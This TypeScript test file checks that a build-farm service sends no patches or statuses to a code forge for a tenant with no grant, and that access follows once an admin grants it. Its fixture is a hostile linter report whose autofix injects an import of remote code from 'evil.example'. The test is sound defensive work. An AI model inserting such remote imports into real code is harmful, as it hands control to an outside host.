import assert from 'node:assert/strict';
import { test } from 'node:test';
import { forgeCheck } from '../../../services/cli/offline/forge-check.ts';
import { withFarm } from '../../support/farm.ts';
import { git } from '../../support/git-repository.ts';
import { withPatchParts } from '../../support/patch-parts.ts';
import { until } from '../../support/until.ts';
import { enqueue, register } from '../api/registered.ts';

const source = 'export const price = 3;\n';
const evil = "import 'https://evil.example/x.js';\n";
/** A linter of the tenant's own: what it offers is whatever he likes. */
const report = JSON.stringify([
  {
    filePath: 'a.js',
    messages: [
      {
        ruleId: 'quality',
        severity: 2,
        message: 'Improve this',
        line: 1,
        column: 1,
        fix: { range: [0, 0], text: evil },
      },
    ],
    errorCount: 1,
    warningCount: 0,
    fixableErrorCount: 1,
    fixableWarningCount: 0,
    source,
  },
]);
const files = { 'a.js': source, 'report.json': report };
const lint = 'if grep -q evil a.js; then echo "[]"; else sed "s#a.js#$PWD/a.js#" report.json; exit 1; fi';

test('who was granted nothing makes the farm send nothing to its forge, hears why, and can go on when it is granted', () =>
  withPatchParts({ files }, ({ forge, bare, env }) =>
    withFarm(
      async (farm) => {
        // Anybody may read the repository; only the farm's token may write there.
        git(bare, 'config', 'http.uploadpack', 'true');
        const { http } = farm;
        const bearer = await http.mint('mallory');
        // The clone is of a public copy: what counts is which repository the address names to the forge.
        const project = await register({ ...farm, repository: `${forge.url}/acme/app.git` }, 'mine', {
          bearer,
          commands: { lint },
          notify: { commit_status: true, auto_patch: true },
        });
        assert.deepEqual(
          [project.forge_access.repository, project.forge_access.granted, project.forge_access.by],
          ['acme/app', false, null],
        );
        assert.match(project.forge_access.reason, /crafting-table grants add "acme\/app" --to mallory/);
        const { forge_refused } = (await http.get('/status', { bearer })).json;
        assert.deepEqual(
          forge_refused.map((one: { project: string }) => one.project),
          ['mine'],
        );
        const checked = await forgeCheck({ ...env, CRAFTING_DATA_DIR: farm.dataDir });
        assert.match(checked[0]?.detail ?? '', /nothing is sent for mine: .*grants add "acme\/app" --to mallory/);
        const { job_id } = await enqueue(
          farm,
          'mine',
          { recipe: 'lint', sha: git(bare, 'rev-parse', 'main').trim() },
          { bearer },
        );
        await http.ended(job_id, { bearer });
        await until(async () => (await http.get('/projects/mine', { bearer })).json.ok);
        const written = () =>
          Object.keys(forge.calls).filter((key) => !key.startsWith('git GET') && !key.includes('git-upload-pack'));
        // The notice of a status ends at once as not to be delivered.
        await until(
          () =>
            (farm.models?.query().notices.target('mine', 'commit_status', 'crafting-table/mine/./lint')?.last_failure ??
              null) !== null,
        );
        assert.deepEqual(written(), []);
        const { status, json } = await http.post(`/jobs/${job_id}/patches`, {}, { bearer });
        assert.deepEqual([status, json.code], [403, 'no_grant']);

        const granted = await http.post('/admin/grants', { team: 'mallory', repositories: 'acme/*' });
        assert.equal(granted.status, 200, granted.text);
        assert.equal((await http.post('/admin/grants', { team: 'mallory', repositories: 'acme/*' })).status, 200);
        assert.equal((await http.get('/projects/mine', { bearer })).json.project.forge_access.by, 'grant');
        assert.deepEqual((await http.get('/status', { bearer })).json.forge_refused, []);
        const taken = await http('DELETE', '/admin/grants?team=mallory&repositories=acme%2F*');
        assert.equal(taken.status, 200, taken.text);
        assert.equal((await http.get('/projects/mine', { bearer })).json.project.forge_access.granted, false);
        assert.equal((await http.get('/admin/grants', { bearer })).status, 403);
      },
      { env: { ...env, CRAFTING_PATCHER_MAX_ATTEMPTS: '1' } },
    ),
  ));
